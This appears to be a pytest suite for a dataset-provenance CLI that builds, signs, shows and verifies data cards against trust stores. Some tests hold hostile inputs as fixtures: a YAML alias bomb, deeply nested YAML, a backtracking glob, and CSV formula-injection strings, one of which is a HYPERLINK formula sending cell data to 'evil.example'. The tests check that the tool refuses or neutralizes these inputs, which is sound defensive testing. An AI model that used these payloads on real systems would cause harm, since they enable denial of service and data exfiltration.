"""Cards, trust stores, keys, specs and verify, through the CLI as a user runs them.

Each test is named after what it guards against (issues 7 and 8 of the project's tracker:
sources tried out of order, one key in two roles, misleading errors, `card show`, required
lists, hostile globs and YAML, CSV injection, a moved clock, and exit codes of verified "no"s).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from provenance import _json, card
from provenance.envelope import sign_envelope
from provenance.keys import load_private_key
from tests.conftest import NOW, ROOT, SAMPLES, one_error_line, run_cli

SPEC = """\
name: order-test
version: "1"
description: Wikipedia pages are listed before the catch-all web crawl.
publisher: {name: Lab}
sources:
  - id: wikipedia
    name: Wikipedia
    kind: open-license
    license: CC-BY-SA-4.0
    domains: [wikipedia.org]
  - id: web
    name: Everything else
    kind: web-crawl
    license: NOASSERTION
    paths: ["**"]
  - id: unused
    name: A source nothing reaches
    kind: dataset
    license: MIT
    paths: ["never/**"]
"""

RECORDS = [
    {"id": "r1", "url": "https://en.wikipedia.org/wiki/Sherlock_Holmes", "text": "one"},
    {"id": "r2", "url": "https://de.wikipedia.org/wiki/Baker_Street", "text": "two"},
    {"id": "r3", "url": "https://news.example/story", "text": "three"},
    {"id": "r4", "url": "https://news.example/x", "text": "four", "source": "wikipedia"},
]


def _ok(*args: str | Path) -> str:
    result = run_cli(*args)
    assert result.returncode == 0, (args, result.stderr)
    return result.stdout


def _jsonl(path: Path, rows: list[dict[str, Any]]) -> Path:
    path.write_text("".join(json.dumps(row) + "\n" for row in rows))
    return path


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Keys, a trust store and a signed card over a records manifest (spec SPEC)."""
    work = tmp_path_factory.mktemp("lab")
    for name in ("dev", "aud", "other"):
        _ok("key", "generate", work / f"{name}.key")
    _ok("trust", "add", work / "trust.json", work / "dev.key.pub", "--name", "Lab",
        "--role", "dataset-publisher")  # fmt: skip
    _ok("trust", "add", work / "trust.json", work / "aud.key.pub", "--name", "Aud",
        "--role", "auditor")  # fmt: skip
    _jsonl(work / "records.jsonl", RECORDS)
    _ok("manifest", "build", work / "records.jsonl", "-o", work / "manifest.jsonl")
    (work / "spec.yaml").write_text(SPEC)
    _ok("card", "build", work / "spec.yaml", "--manifest", work / "manifest.jsonl",
        "-o", work / "card.json")  # fmt: skip
    _ok("card", "sign", work / "card.json", "--key", work / "dev.key", "-o", work / "signed.json")
    return work


def _sources(card_path: Path) -> dict[str, int]:
    statement = json.loads(card_path.read_text())
    return {s["id"]: s["records"] for s in statement["predicate"]["sources"]}


# -- 7.2: sources are tried in the order written ------------------------------------------------


def test_sources_are_tried_in_the_order_written(lab: Path, tmp_path: Path) -> None:
    # wikipedia (by domain) comes before web (paths "**"): both Wikipedia records are its own,
    # the record naming its source keeps it, and the rest falls to web.
    assert _sources(lab / "card.json") == {"wikipedia": 3, "web": 1, "unused": 0}
    # Written the other way round, the catch-all takes all but the record that names its source.
    head, wikipedia, web, unused = SPEC.split("  - id: ")
    (tmp_path / "swapped.yaml").write_text("  - id: ".join([head, web, wikipedia, unused]))
    result = run_cli("card", "build", tmp_path / "swapped.yaml", "--manifest",
                     lab / "manifest.jsonl", "-o", tmp_path / "card.json")  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert _sources(tmp_path / "card.json") == {"web": 3, "wikipedia": 1, "unused": 0}


def test_a_source_that_claims_nothing_is_a_warning_naming_it(lab: Path, tmp_path: Path) -> None:
    result = run_cli("card", "build", lab / "spec.yaml", "--manifest", lab / "manifest.jsonl",
                     "-o", tmp_path / "card.json")  # fmt: skip
    assert result.returncode == 0
    warnings = [line for line in result.stderr.splitlines() if line.startswith("warning:")]
    assert len(warnings) == 1 and "source 'unused' claims no manifest entry" in warnings[0]
    assert "Traceback" not in result.stderr


# -- 7.7: one key, one role ---------------------------------------------------------------------


def test_a_key_is_trusted_for_one_role_only(lab: Path, tmp_path: Path) -> None:
    trust = tmp_path / "trust.json"
    shutil.copy(lab / "trust.json", trust)
    before = trust.read_bytes()
    result = run_cli("trust", "add", trust, lab / "dev.key.pub", "--name", "Lab again",
                     "--role", "auditor")  # fmt: skip
    assert result.returncode == 2
    line = one_error_line(result)
    assert "already trusted as dataset-publisher" in line and "use a separate key" in line
    assert trust.read_bytes() == before


def test_list_publisher_without_a_list_is_refused(lab: Path, tmp_path: Path) -> None:
    result = run_cli("trust", "add", tmp_path / "t.json", lab / "other.key.pub", "--name", "A",
                     "--role", "list-publisher")  # fmt: skip
    assert result.returncode == 2
    assert "name the list" in one_error_line(result)
    assert not (tmp_path / "t.json").exists()


@pytest.mark.parametrize("edit", ["two entries", "two roles"])
def test_a_hand_edited_store_with_one_key_in_two_roles_is_refused(
    lab: Path, tmp_path: Path, edit: str
) -> None:
    # The publisher's key also listed as auditor would make its own signature a "co-signature".
    document = json.loads((lab / "trust.json").read_text())
    publisher = next(k for k in document["keys"] if k["roles"] == ["dataset-publisher"])
    if edit == "two entries":
        document["keys"].append({**publisher, "name": "Aud too", "roles": ["auditor"]})
    else:
        publisher["roles"] = ["auditor", "dataset-publisher"]
    (tmp_path / "trust.json").write_text(json.dumps(document))
    result = run_cli("verify", lab / "signed.json", "--trust", tmp_path / "trust.json")
    assert result.returncode == 2
    assert "one role only" in one_error_line(result)
    assert result.stdout == ""


# -- 7.9: errors that say what is wrong --------------------------------------------------------


def test_signing_with_a_public_key_says_it_is_a_public_key(lab: Path, tmp_path: Path) -> None:
    result = run_cli("card", "sign", lab / "card.json", "--key", lab / "dev.key.pub",
                     "-o", tmp_path / "s.json")  # fmt: skip
    assert result.returncode == 2
    line = one_error_line(result)
    assert "is a public key" in line and "chmod" not in line
    assert str(lab / "dev.key") in line
    assert not (tmp_path / "s.json").exists()


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        (
            "kind: dataset",
            "kind: blog",
            "sources/2/kind: 'blog' is not one of: web-crawl, licensed, public-domain,"
            " open-license, user-contributed, synthetic, dataset",
        ),
        ("license: MIT", "licence: MIT", "unknown field 'licence' (did you mean 'license'?)"),
    ],
)
def test_spec_errors_name_the_bad_value_or_field(
    lab: Path, tmp_path: Path, old: str, new: str, expected: str
) -> None:
    (tmp_path / "spec.yaml").write_text(SPEC.replace(old, new))
    result = run_cli("card", "build", tmp_path / "spec.yaml", "--manifest",
                     lab / "manifest.jsonl", "-o", tmp_path / "card.json")  # fmt: skip
    assert result.returncode == 2
    line = one_error_line(result)
    assert expected in line
    assert "nevaluated" not in line and len(line) < 400
    assert not (tmp_path / "card.json").exists()


# -- 7.11: card show ----------------------------------------------------------------------------


def test_card_show_verified(lab: Path, tmp_path: Path) -> None:
    signed = tmp_path / "signed.json"
    shutil.copy(lab / "signed.json", signed)
    _ok("card", "sign", signed, "--key", lab / "aud.key", "-o", signed)
    result = run_cli("card", "show", signed, "--trust", lab / "trust.json")
    assert result.returncode == 0, result.stderr
    out = result.stdout
    assert "NOT VERIFIED" not in out and "unverified" not in out
    assert "card: order-test 1 by Lab" in out
    assert "verified      dataset-publisher Lab" in out
    assert "verified      auditor Aud" in out
    assert "wikipedia (Wikipedia): open-license, CC-BY-SA-4.0, 3 records" in out
    assert "domains wikipedia.org" in out
    assert "exclusion lists applied (0):\n  none" in out
    statement = json.loads((lab / "card.json").read_text())
    root = statement["predicate"]["manifest"]["merkleRoot"]
    assert f"Merkle root {root}" in out
    assert statement["subject"][0]["digest"]["sha256"] in out
    document = json.loads(
        run_cli("card", "show", signed, "--trust", lab / "trust.json", "--json").stdout
    )
    assert document["verified"] is True and document["card"] == statement
    assert [(s["status"], s["role"]) for s in document["signatures"]] == [
        ("verified", "dataset-publisher"),
        ("verified", "auditor"),
    ]


def test_card_show_without_trust_says_nothing_was_verified(lab: Path) -> None:
    result = run_cli("card", "show", lab / "signed.json")
    assert result.returncode == 0
    assert "NOT VERIFIED" in result.stderr
    lines = result.stdout.splitlines()
    assert lines[0].startswith("NOT VERIFIED: no trust store was given") and lines[-1] == lines[0]
    assert "unverified card: order-test" in result.stdout
    assert "unverified sources" in result.stdout and "unchecked" in result.stdout
    document = json.loads(run_cli("card", "show", lab / "signed.json", "--json").stdout)
    assert document["verified"] is False and "card" not in document
    assert document["unverifiedCard"]["predicate"]["name"] == "order-test"
    assert {s["status"] for s in document["signatures"]} == {"unchecked"}


def test_card_show_of_a_card_that_does_not_verify_exits_1(lab: Path, tmp_path: Path) -> None:
    _ok("trust", "add", tmp_path / "other.json", lab / "other.key.pub", "--name", "Other",
        "--role", "dataset-publisher")  # fmt: skip
    result = run_cli("card", "show", lab / "signed.json", "--trust", tmp_path / "other.json")
    assert result.returncode == 1
    assert result.stdout.startswith("NOT VERIFIED: ")
    assert "untrusted" in result.stdout and "unverified card:" in result.stdout


# -- 8.3: required lists are checked on every verify --------------------------------------------


def test_a_card_that_skipped_a_required_list_fails_without_lists(lab: Path, tmp_path: Path) -> None:
    trust = tmp_path / "trust.json"
    shutil.copy(lab / "trust.json", trust)
    _ok("trust", "require", trust, "piracy")
    result = run_cli("verify", lab / "signed.json", "--trust", trust, "--json")
    assert result.returncode == 1
    report = json.loads(result.stdout)
    check = next(c for c in report["checks"] if c["name"] == "required lists")
    assert check == {"name": "required lists", "ok": False, "detail": "not applied: piracy"}
    assert report["violations"][0]["list"] == "piracy"
    assert run_cli("verify", lab / "signed.json", "--trust", lab / "trust.json").returncode == 0


# -- 8.5: a signer-chosen glob cannot make verify spin -------------------------------------------


def test_a_backtracking_glob_in_a_signed_card_stays_fast(lab: Path, tmp_path: Path) -> None:
    # Eight "**/x/" against a 60-segment id took pathspec minutes; the signer chooses both.
    deep_id = "/".join(["x"] * 60)
    rows = [{"id": deep_id, "url": "https://example.org/a", "text": "a"},
            {"id": "y", "url": "https://example.org/b", "text": "b"}]  # fmt: skip
    _jsonl(tmp_path / "records.jsonl", rows)
    _ok("manifest", "build", tmp_path / "records.jsonl", "-o", tmp_path / "manifest.jsonl")
    spec = (
        "name: glob\nversion: '1'\ndescription: d\npublisher: {name: Lab}\nsources:\n"
        f"  - {{id: trap, name: T, kind: dataset, license: MIT, paths: ['{'**/x/' * 8}z']}}\n"
        "  - {id: rest, name: R, kind: dataset, license: MIT, paths: ['**']}\n"
    )
    (tmp_path / "spec.yaml").write_text(spec)
    started = time.monotonic()
    _ok("card", "build", tmp_path / "spec.yaml", "--manifest", tmp_path / "manifest.jsonl",
        "-o", tmp_path / "card.json")  # fmt: skip
    _ok("card", "sign", tmp_path / "card.json", "--key", lab / "dev.key", "-o",
        tmp_path / "signed.json")  # fmt: skip
    result = run_cli("verify", tmp_path / "signed.json", "--trust", lab / "trust.json",
                     "--manifest", tmp_path / "manifest.jsonl")  # fmt: skip
    elapsed = time.monotonic() - started
    assert result.returncode == 0, result.stdout + result.stderr
    assert _sources(tmp_path / "card.json") == {"trap": 0, "rest": 2}
    # Four processes; each one starts in well under a second.
    assert elapsed < 15, elapsed


# -- 8.7: YAML specs: no aliases, bounded nesting ------------------------------------------------

ALIAS_BOMB = (
    'a: &a ["x","x","x","x","x","x","x","x","x"]\n'
    "b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
    "c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
    "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n"
    "e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"
    "f: [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n"
)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (ALIAS_BOMB, "YAML aliases (*a) are not allowed, at line 2"),
        ("name: " + "[" * 5000 + "]" * 5000 + "\n", "nesting deeper than 64 levels, at line 1"),
    ],
    ids=["alias-bomb", "deep-nesting"],
)
def test_hostile_yaml_specs_are_refused_in_one_line(
    lab: Path, tmp_path: Path, text: str, expected: str
) -> None:
    assert len(ALIAS_BOMB) < 260
    (tmp_path / "spec.yaml").write_text(text)
    started = time.monotonic()
    result = run_cli("card", "build", tmp_path / "spec.yaml", "--manifest",
                     lab / "manifest.jsonl", "-o", tmp_path / "card.json")  # fmt: skip
    assert time.monotonic() - started < 10
    assert result.returncode == 2
    assert expected in one_error_line(result)
    assert not (tmp_path / "card.json").exists()


# -- 8.12: CSV formula injection -----------------------------------------------------------------


def test_usage_csv_neutralizes_formulas(lab: Path, tmp_path: Path) -> None:
    holder = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    rows = [
        {"id": "f1", "url": "https://a.example/1", "text": "one", "rightsHolder": holder},
        {"id": "f2", "url": "https://a.example/2", "text": "two", "rightsHolder": "+1-555"},
        {"id": "f3", "url": "https://a.example/3", "text": "three", "rightsHolder": "@SUM(1)"},
        {"id": "f4", "url": "https://a.example/4", "text": "four", "rightsHolder": "Plain Ltd"},
    ]
    _jsonl(tmp_path / "records.jsonl", rows)
    _ok("manifest", "build", tmp_path / "records.jsonl", "-o", tmp_path / "manifest.jsonl")
    spec = (
        "name: csv\nversion: '1'\ndescription: d\npublisher: {name: Lab}\nsources:\n"
        "  - {id: src-1, name: S, kind: dataset, license: MIT, paths: ['**']}\n"
    )
    (tmp_path / "spec.yaml").write_text(spec)
    _ok("card", "build", tmp_path / "spec.yaml", "--manifest", tmp_path / "manifest.jsonl",
        "-o", tmp_path / "card.json")  # fmt: skip
    _ok("card", "sign", tmp_path / "card.json", "--key", lab / "dev.key", "-o",
        tmp_path / "signed.json")  # fmt: skip
    out = _ok("report", "usage", "--manifest", tmp_path / "manifest.jsonl", "--card",
              tmp_path / "signed.json", "--trust", lab / "trust.json", "--csv")  # fmt: skip
    groups = [row[0] for row in csv.reader(io.StringIO(out))][1:]
    assert sorted(groups) == sorted(["'" + holder, "'+1-555", "'@SUM(1)", "Plain Ltd"])
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in groups)


# -- 8.13 and 8.14: the clock, key windows and the type of what was signed -----------------------


def _trust_with_window(lab: Path, path: Path, **window: str) -> Path:
    document = json.loads((lab / "trust.json").read_text())
    for item in document["keys"]:
        if item["roles"] == ["dataset-publisher"]:
            item.update(window)
    path.write_text(json.dumps(document))
    return path


def test_a_clock_override_is_announced_every_time(lab: Path) -> None:
    for command in (
        ("verify", lab / "signed.json", "--trust", lab / "trust.json"),
        ("card", "show", lab / "signed.json", "--trust", lab / "trust.json"),
    ):
        result = run_cli(*command, "--now", NOW)
        assert result.returncode == 0
        assert f"warning: clock override: using {NOW} as the time" in result.stderr
        # run_cli clears PROVENANCE_NOW (so that no test moves the clock by accident).
        result = subprocess.run(
            [sys.executable, "-m", "provenance", *map(str, command)],
            capture_output=True,
            text=True,
            env={**os.environ, "PYTHONPATH": str(ROOT), "PROVENANCE_NOW": NOW},
            timeout=120,
            check=False,
        )
        assert result.returncode == 0, result.stderr
        assert f"warning: clock override: using {NOW} as the time" in result.stderr
        assert "clock override" not in run_cli(*command).stderr


def test_a_moved_clock_never_revives_an_expired_key(lab: Path, tmp_path: Path) -> None:
    # The key's trust ended a day ago on the real clock; a clock set before that changes nothing.
    yesterday = dt.datetime.now(dt.UTC) - dt.timedelta(days=1)
    trust = _trust_with_window(
        lab, tmp_path / "trust.json", notAfter=yesterday.strftime("%Y-%m-%dT%H:%M:%SZ")
    )
    before = (yesterday - dt.timedelta(days=30)).strftime("%Y-%m-%dT%H:%M:%SZ")
    for extra in ((), ("--now", before)):
        result = run_cli("verify", lab / "signed.json", "--trust", trust, "--json", *extra)
        assert result.returncode == 1, result.stderr
        check = json.loads(result.stdout)["checks"][0]
        assert check["name"] == "signature" and not check["ok"]
        assert "trust expired at" in check["detail"]
    assert "on the real clock" in check["detail"]


@pytest.mark.parametrize(
    ("window", "expected"),
    [
        ({"notAfter": "2020-01-01T00:00:00Z"}, "trust expired at 2020-01-01T00:00:00Z"),
        ({"notBefore": "2999-01-01T00:00:00Z"}, "trust begins only at 2999-01-01T00:00:00Z"),
    ],
    ids=["expired", "not-yet-valid"],
)
def test_a_publisher_key_outside_its_window_is_a_verified_no(
    lab: Path, tmp_path: Path, window: dict[str, str], expected: str
) -> None:
    trust = _trust_with_window(lab, tmp_path / "trust.json", **window)
    result = run_cli("verify", lab / "signed.json", "--trust", trust)
    assert result.returncode == 1, result.stderr
    assert "FAIL  signature: " in result.stdout and expected in result.stdout
    assert "signed by dataset-publisher Lab" in result.stdout
    shown = run_cli("card", "show", lab / "signed.json", "--trust", trust)
    assert shown.returncode == 1 and "not-valid-now" in shown.stdout


def test_a_signed_statement_that_is_not_a_card_is_a_verified_no(lab: Path, tmp_path: Path) -> None:
    statement = json.loads((lab / "card.json").read_text())
    statement["predicateType"] = "https://slsa.dev/provenance/v1"
    key = load_private_key(lab / "dev.key")
    envelope = sign_envelope(card.PAYLOAD_TYPE, _json.canonical(statement), [key])
    (tmp_path / "slsa.json").write_bytes(envelope.to_json())
    result = run_cli("verify", tmp_path / "slsa.json", "--trust", lab / "trust.json")
    assert result.returncode == 1, result.stderr
    assert "FAIL  statement: " in result.stdout and "not a dataset card" in result.stdout


def test_sample_spec_still_builds_the_same_counts(tmp_path: Path) -> None:
    # The sample card's sources list paths and domains; order-aware matching keeps its counts.
    _ok("manifest", "build", SAMPLES / "data", "-o", tmp_path / "m.jsonl")
    _ok("card", "build", SAMPLES / "card-spec.yaml", "--manifest", tmp_path / "m.jsonl",
        "-o", tmp_path / "card.json")  # fmt: skip
    counts = _sources(tmp_path / "card.json")
    assert sum(counts.values()) == len((tmp_path / "m.jsonl").read_text().splitlines())
    assert all(counts[s] > 0 for s in ("gutenberg", "us-senate", "photos", "example-news"))
